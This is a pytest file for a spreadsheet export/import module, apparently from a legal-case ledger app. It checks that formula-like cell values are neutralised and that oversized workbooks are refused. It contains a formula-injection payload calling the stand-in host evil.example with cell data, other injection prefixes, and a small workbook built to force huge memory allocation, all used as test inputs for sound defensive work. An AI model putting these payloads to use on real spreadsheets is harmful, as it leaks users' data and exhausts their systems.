"""Spreadsheets in and out, as an attacker would send or wish to receive them: a formula in a
party's name stays text in every export (OWASP "CSV injection"), and a tiny workbook whose single
far cell would make a reader allocate hundreds of gigabytes is refused before it is read."""

import io
import re
import zipfile

import pytest
from openpyxl import Workbook

from fazhi.core import xlsx

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def _parts(f) -> tuple[str, str]:
    with zipfile.ZipFile(f) as zf:
        return zf.read("xl/worksheets/sheet1.xml").decode(), zf.read("xl/styles.xml").decode()


@pytest.mark.parametrize("value", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1"])
def test_a_formula_like_value_is_written_as_quoted_text(value):
    f, count = xlsx.write_sheet("台账", ["当事人", "金额"], [[value, 5], ["张三", -7]])
    sheet, styles = _parts(f)
    assert count == 2
    assert "<f>" not in sheet  # no formula anywhere
    cell = re.search(r'<c r="A2"([^>]*)>', sheet).group(1)
    assert 't="s"' in cell or 't="inlineStr"' in cell  # a string cell
    style = int(re.search(r's="(\d+)"', cell).group(1))
    xfs = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S).group(1)
    assert 'quotePrefix="1"' in re.findall(r"<xf\b[^>]*>", xfs)[style]  # stays text when edited
    assert re.search(r'<c r="B3"[^>]*><v>-7</v>', sheet)  # a negative number is still a number


def test_a_plain_name_gets_no_quote_prefix():
    f, _ = xlsx.write_sheet("台账", ["当事人"], [["张三"]])
    sheet, _ = _parts(f)
    assert re.search(r'<c r="A2" t="s"/?>', sheet) or 's="' not in re.search(r'<c r="A2"[^>]*>', sheet).group(
        0
    )


def _workbook(**cells) -> bytes:
    wb = Workbook()
    for ref, value in cells.items():
        wb.active[ref] = value
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_a_far_single_cell_is_refused_before_reading():
    content = _workbook(A1="案号", XFD1048576="x")
    assert len(content) < 10_000  # the attack is a few kilobytes
    with pytest.raises(xlsx.SheetTooLarge, match="1,048,576 行第 16,384 列"):
        xlsx.check_workbook(content, max_cells=5_000_000, max_unpacked=512 * 2**20)


def test_an_ordinary_sheet_passes_and_a_low_limit_names_itself():
    content = _workbook(A1="案号", B1="申请人", A3="1", B3="张三")
    xlsx.check_workbook(content, max_cells=6, max_unpacked=2**20)  # 3 rows x 2 columns
    with pytest.raises(xlsx.SheetTooLarge, match="超过上限 5"):
        xlsx.check_workbook(content, max_cells=5, max_unpacked=2**20)
    with pytest.raises(xlsx.SheetTooLarge, match="解压后"):
        xlsx.check_workbook(content, max_cells=100, max_unpacked=100)


def test_a_file_that_is_no_package_is_left_to_the_reader():
    xlsx.check_workbook(b"not a zip at all", max_cells=1, max_unpacked=1)
